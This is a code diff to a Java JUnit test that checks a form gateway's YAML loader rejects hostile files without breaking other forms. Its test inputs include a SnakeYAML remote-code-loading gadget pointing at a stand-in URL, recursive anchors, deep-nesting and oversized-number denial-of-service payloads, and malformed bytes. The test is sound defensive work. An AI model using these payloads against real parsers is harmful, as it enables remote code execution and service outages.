@@ -2,6 +2,7 @@ package ghl.gateway.form;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.junit.jupiter.params.provider.Arguments.arguments;
 
 import ghl.gateway.fixture.TestClock;
 import ghl.gateway.form.definition.FormDefinition;
@@ -10,11 +11,16 @@ import ghl.gateway.form.file.FormReader;
 import io.quarkus.runtime.StartupEvent;
 import io.quarkus.runtime.configuration.ConfigurationException;
 import java.io.IOException;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 
 /** Form files edited while the gateway runs. */
 class FormsTest {
@@ -128,13 +134,64 @@ class FormsTest {
         assertThat(forms.find("quote").map(FormDefinition::title)).contains("Back");
     }
 
-    @Test
-    void file_that_is_not_text_is_named() throws IOException {
-        Files.write(folder.resolve("latin.yaml"), new byte[] {'t', ':', ' ', (byte) 0xe9});
+    @ParameterizedTest
+    @MethodSource("hostileFiles")
+    void hostile_file_is_an_error_of_that_file_only(byte[] content, String message) throws IOException {
+        Files.write(folder.resolve("hostile.yaml"), content);
+        forms.reload();
+        write("quote.yaml", "Edited later");
         forms.reload();
 
-        assertThat(forms.readError()).contains("latin.yaml is not UTF-8 text");
-        assertThat(forms.all()).extracting(FormDefinition::name).containsExactly("quote");
+        assertThat(forms.loadedForms().get(0).problems())
+                .isNotEmpty()
+                .allSatisfy(problem ->
+                        assertThat(problem.toString()).contains("hostile.yaml:").hasSizeLessThan(1000));
+        assertThat(forms.loadedForms().get(0).problems().toString()).contains(message);
+        assertThat(forms.find("hostile")).isEmpty();
+        assertThat(forms.find("quote").map(FormDefinition::title)).contains("Edited later");
+        assertThat(forms.readError()).isNull();
+    }
+
+    static List<Arguments> hostileFiles() {
+        String form = "answers: {email: {}}\ncontact: {email: '{email}'}\n";
+        return List.of(
+                arguments(new byte[] {'t', ':', ' ', (byte) 0xe9}, "is not UTF-8 text"),
+                arguments(bytes("title: !!binary aGVsbG8=\n" + form), ""),
+                arguments(bytes("!!binary aGVsbG8=: x\n" + form), ""),
+                arguments(bytes("tags: [!!binary aGVsbG8=]\n" + form), ""),
+                arguments(bytes("!!binary aGVsbG8="), ""),
+                arguments(bytes("title: !!binary '%%%'\n" + form), ""),
+                arguments(
+                        bytes("title: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://x']]\n" + form), ""),
+                arguments(bytes("title: a\u0000b\n" + form), ""),
+                arguments(bytes("title: 1\ntitle: 2\n" + form), ""),
+                arguments(bytes("tags: " + "[".repeat(100_000) + "\n" + form), ""),
+                arguments(bytes("tags: " + "{a: ".repeat(10_000) + "\n" + form), ""),
+                arguments(bytes("title: '" + "{#if email}".repeat(20_000) + "'\n" + form), ""),
+                arguments(bytes("tags: ['" + "{#if email}".repeat(20_000) + "']\n" + form), ""),
+                arguments(bytes("&a [*a]: *a\n" + form), ""),
+                arguments(bytes("tags: &a [x, *a, *a]\n<<: *a\n" + form), ""),
+                arguments(bytes("x: " + "1".repeat(900_000) + "\n" + form), ""),
+                arguments(bytes("title: ." + "9".repeat(900_000) + "e999999999\n" + form), ""),
+                arguments(bytes("%YAML 9.9\n---\n" + form), ""),
+                arguments(bytes("# " + "x".repeat(1024 * 1024) + "\n" + form), "is larger than 1048576 bytes"),
+                arguments(bytes(""), ""));
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    @Test
+    void unreadable_file_keeps_its_last_valid_definition() throws IOException {
+        Files.write(folder.resolve("quote.yaml"), new byte[] {'t', ':', ' ', (byte) 0xe9});
+        forms.reload();
+
+        assertThat(forms.find("quote").map(FormDefinition::title)).contains("Quote");
+        assertThat(forms.loadedForms().get(0).problems())
+                .singleElement()
+                .asString()
+                .contains("quote.yaml:1: is not UTF-8 text");
     }
 
     @Test
